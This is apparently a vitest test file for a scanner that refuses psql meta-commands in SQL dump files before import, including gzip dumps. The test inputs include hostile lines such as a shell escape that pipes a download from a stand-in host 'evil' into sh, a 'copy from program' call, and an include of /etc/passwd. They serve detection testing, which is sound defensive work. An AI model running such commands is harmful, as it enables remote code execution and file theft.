import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import {
  PsqlDumpScanner,
  findPsqlMetaCommand,
  refusePsqlMetaCommands,
} from '../../../electron/core/databases/psqlMetaCommands.ts';
import { InvalidInput } from '../../../shared/src/errors.ts';

const dir = mkdtempSync(join(tmpdir(), 'psql-dump-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const scan = (dump: string) => {
  const scanner = new PsqlDumpScanner();
  const lines = dump.split('\n');
  for (const line of lines) {
    const finding = scanner.line(line);
    if (finding) return finding;
  }
  return undefined;
};

/** What pg_dump 17 writes, trimmed: settings, a function, COPY data full of backslashes, restrict. */
const PG_DUMP = String.raw`--
-- PostgreSQL database dump
--
\restrict 7yF1aZbq0kQ2
SET statement_timeout = 0;
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
CREATE FUNCTION public.slug(t text) RETURNS text
    LANGUAGE sql AS $_$ SELECT regexp_replace($1, '\W+', '-', 'g') $_$;
CREATE TABLE public.notes (id integer, body text, "odd\name" text);
COMMENT ON TABLE public.notes IS 'paths like C:\temp stay literal';
INSERT INTO public.notes VALUES (1, E'tab\there \'quoted\' \\ back', 'x');
/* a block /* nested */ comment with \! inside */
COPY public.notes (id, body, "odd\name") FROM stdin;
1	line with \! and \copy and a tab\tescape	\N
2	C:\\Windows\\System32	x
\.
SELECT 1; -- a trailing \! comment
\unrestrict 7yF1aZbq0kQ2
`;

describe('psql meta-commands in a dump', () => {
  it('passes what pg_dump writes: COPY data, quoted and commented backslashes, \\restrict', () => {
    expect(scan(PG_DUMP)).toBeUndefined();
  });

  it.each([
    ['\\! id', 1, '\\!'],
    ['SELECT 1; \\! touch /tmp/pwned', 1, '\\!'],
    ["CREATE TABLE t (a int);\n\\copy t from program 'id'", 2, '\\copy'],
    ["SELECT 'a''b' \\gexec", 1, '\\gexec'],
    ["SELECT 'C:\\'; \\! id", 1, '\\!'],
    ["SELECT E'it\\'s'; \\o /tmp/x", 1, '\\o'],
    ['SELECT $$ \\! no $$, $a$ $$ \\! $a$ \\set x 1', 1, '\\set'],
    ['/* one /* two */ still comment */ \\i /etc/passwd', 1, '\\i'],
    ['COPY t FROM stdin;\n1\n\\.\n\\! after the data', 4, '\\!'],
    ['\\connect other', 1, '\\connect'],
    ['SELECT 1 \\\\ \\! id', 1, '\\\\'],
  ])('refuses %j at line %i', (dump, line, command) => {
    expect(scan(dump)).toMatchObject({ line, command });
  });

  it('refuses a dump that turns standard_conforming_strings off (its strings read differently)', () => {
    const dump = "SET standard_conforming_strings = off;\nSELECT 'x\\'; \\! id';";
    expect(scan(dump)).toMatchObject({ line: 1, command: 'standard_conforming_strings' });
    expect(scan("SELECT set_config('standard_conforming_strings', 'off', false);")).toBeDefined();
  });

  it('a COPY to stdout or from a file is not a data block', () => {
    expect(scan('COPY t TO stdout;\n\\! id')).toMatchObject({ line: 2 });
    expect(scan("COPY t FROM '/tmp/x';\n\\! id")).toMatchObject({ line: 2 });
  });

  it('reads gzip dumps too, and says where and what to do', async () => {
    const plain = join(dir, 'ok.sql');
    writeFileSync(plain, PG_DUMP);
    expect(await findPsqlMetaCommand(plain, false)).toBeUndefined();
    const bad = join(dir, 'bad.sql.gz');
    writeFileSync(bad, gzipSync(`${PG_DUMP}SELECT 2;\n\\! curl evil | sh\n`));
    const refusal = refusePsqlMetaCommands(bad, true);
    await expect(refusal).rejects.toBeInstanceOf(InvalidInput);
    await expect(refusal).rejects.toThrow(/Line 21 .*\(\\!\).*import the file with psql yourself/);
  });
});
